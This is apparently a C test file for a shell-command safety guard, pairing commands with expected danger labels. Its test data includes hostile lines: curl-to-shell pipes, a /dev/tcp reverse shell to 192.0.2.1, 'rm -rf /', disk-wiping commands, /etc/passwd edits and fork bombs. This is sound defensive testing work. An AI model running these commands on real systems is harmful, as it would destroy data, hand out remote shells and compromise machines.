/* The rules where they end: what is nearly refused. */
#include "guard_pairs.h"

static void
foreign_code(void)
{
	static const struct pair pairs[] = {
		{ "curl -fsSL x | bash -s -- --yes", "remote-code" },
		{ "curl x | tee i.sh | nice sh", "remote-code" },
		{ "curl x | (cat | sh)", "remote-code" },
		{ "curl x | { read a; python3 -; }", "remote-code" },
		{ "curl x | python3 -m json.tool", "" },
		{ "curl x | python3 -c 'import json'", "" },
		{ "curl x | python3 parse.py", "" },
		{ "curl x | perl -ne print", "" },
		{ "curl x | bash script.sh", "" },
		{ "curl -o x.sh x | cat", "" },
		{ "base64 -d x | sh", "remote-code" },
		{ "base64 x | sh", "" },
		{ "bash -c \"$(wget -qO- x)\"", "remote-code" },
		{ "bash -c \"echo $(curl -s ifconfig.me)\"", "" },
		{ "$(curl x)", "remote-code" },
		{ "x=$(curl x)", "" },
		{ "sh < <(curl x)", "remote-code" },
		{ "bash <<<\"$(curl x)\"", "remote-code" },
		{ "source <(curl x)", "remote-code" },
		{ "source <(kubectl completion bash)", "" },
		{ "eval \"$(ssh-agent -s)\"", "" },
		{ "curl x | xargs -0 bash -c", "remote-code" },
		{ "echo 'sudo id' | sh", "privilege" },
		{ "printf 'rm -rf /\\n' | sh", "delete" },
		{ "printf '%s\\n' 'cd x' 'rm -rf /' | sh", "delete" },
		{ "printf 'rm -rf %s\\n' build | sh", "" },
		{ "echo -e 'make\\nrm -rf /' | sh", "delete" },
		{ "echo -e 'make\\nrm -rf x' | sh", "" },
		{ "eval -- \"$(curl x)\"", "remote-code" },
		{ "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "remote-code" },
		{ "sh </dev/tcp/x.example/1", "remote-code" },
		{ "bash -c 'echo x >/dev/tcp/localhost/80'", "" },
		{ "echo x >/dev/tcp/localhost/80", "" },
		{ "curl x | xargs -I% sh -c '%'", "remote-code" },
		{ "curl x | xargs -I{} sh -c 'wget {}'", "" },
		{ "curl x | xargs -n 1 sh -c 'echo \"$1\"' _", "" },
		{ "sh <<'END'\nsudo id\nEND", "privilege" },
		{ "cat <<END | sh\nsudo id\nEND", "privilege" },
		{ "cat <<END >f\nsudo id\nEND", "" },
		{ "cat <<END\n$(sudo id)\nEND", "privilege" },
	};
	check_pairs(pairs, AB_COUNT_OF(pairs));
}

static void
devices_and_files(void)
{
	static const struct pair pairs[] = {
		{ "mkfs.ext4 disk.img", "" },
		{ "mkfs.ext4 /dev/sdb1", "device" },
		{ "cat x >/dev/nvme0n1", "device" },
		{ "echo x >/dev/shm/y 2>/dev/null", "" },
		{ "tee -a /etc/hosts", "system-files" },
		{ "cp /etc/hosts .", "" },
		{ "cp x /usr/bin/y", "system-files" },
		{ "cp x /usr/local/bin/y", "" },
		{ "sed -i s/a/b/ /etc/x", "system-files" },
		{ "sed s/a/b/ /etc/x", "" },
		{ "cp passwd /etc/", "system-files" },
		{ "cp --target-directory=/usr/bin x", "system-files" },
		{ "cp -t /usr/local/bin x", "" },
		{ "mv /etc/passwd x", "system-files" },
		{ "perl -pi -e s/a/b/ /etc/passwd", "system-files" },
		{ "perl -ne print /etc/passwd", "" },
		{ "unlink /etc/passwd", "system-files" },
		{ "rm -f /etc/*", "system-files" },
		{ "rm -f /usr/bin/*", "system-files" },
		{ "rm -f /var/cache/apt/*.bin /tmp/*", "" },
		{ "chmod 777 /etc/*", "system-files" },
		{ "rsync -a conf/ /etc/", "system-files" },
		{ "rsync -t /etc/hosts .", "" },
		{ "rsync -a --delete empty/ /", "delete" },
		{ "rsync -a --delete empty/ ~/", "delete" },
		{ "rsync -a --delete build/ /var/www/html/", "" },
		{ "rsync -a --delete build/ host:/etc/", "" },
		{ "scp host:x /etc/passwd", "system-files" },
		{ "scp /etc/hosts host:", "" },
		{ "curl -o /etc/passwd x", "system-files" },
		{ "curl -fsSLo /usr/bin/x https://x.example", "system-files" },
		{ "wget -qO /boot/x x", "system-files" },
		{ "wget --output-document=/etc/x x", "system-files" },
		{ "curl -fsSLo /usr/local/bin/x https://x.example", "" },
		{ "curl -o out.json https://x.example/etc/passwd", "" },
		{ "wget -O- /etc/x", "" },
		{ "gpasswd -a x adm", "system-files" },
		{ "chattr +i /etc/resolv.conf", "system-files" },
		{ "chattr -R +i /", "permissions" },
		{ "chattr -R +i build", "" },
		{ "setfacl -R -m u:x:rwx /usr", "permissions" },
		{ "setfacl -R -m u:x:rwx /ws/scope/build", "" },
		{ "script -q -c 'rm -rf /' /dev/null", "delete" },
		{ "script -q -c 'rm -rf build' /dev/null", "" },
		{ "parallel rm -rf ::: / /usr", "delete" },
		{ "parallel -j 4 rm -rf ::: build dist", "" },
		{ "ls *.c | parallel cc -c {}", "" },
		{ "cryptsetup -q luksFormat /dev/sda", "device" },
		{ "cryptsetup luksDump /dev/sda", "" },
		{ "hdparm --user-master u --security-erase p /dev/sda", "device" },
		{ "hdparm -I /dev/sda", "" },
		{ "mdadm --zero-superblock /dev/sdb1", "device" },
		{ "mdadm --detail /dev/md0", "" },
		{ "lvremove -f vg/lv", "device" },
		{ "vgremove vg", "device" },
		{ "pvremove /dev/sda", "device" },
		{ "zpool destroy tank", "device" },
		{ "zpool status tank", "" },
		{ "dd if=x of=/dev/disk2", "device" },
		{ "dd if=x of=/dev/disk/by-id/x", "device" },
		{ "nvme format /dev/nvme0n1", "device" },
		{ "nvme list /dev/nvme0n1", "" },
		{ "{ echo x; } >/etc/x", "system-files" },
		{ "$0 | $0 &", "fork-bomb" },
		{ "f() { f & f; }; f", "fork-bomb" },
		{ "walk() { walk \"$1/a\"; walk \"$1/b\"; }", "" },
		{ "retry() { \"$@\" || retry \"$@\"; }", "" },
	};
	check_pairs(pairs, AB_COUNT_OF(pairs));
}

int
main(void)
{
	static const struct tap_test tests[] = {
		{ "code from elsewhere", foreign_code },
		{ "devices, files, bombs", devices_and_files },
	};

	return tap_run(tests, AB_COUNT_OF(tests));
}
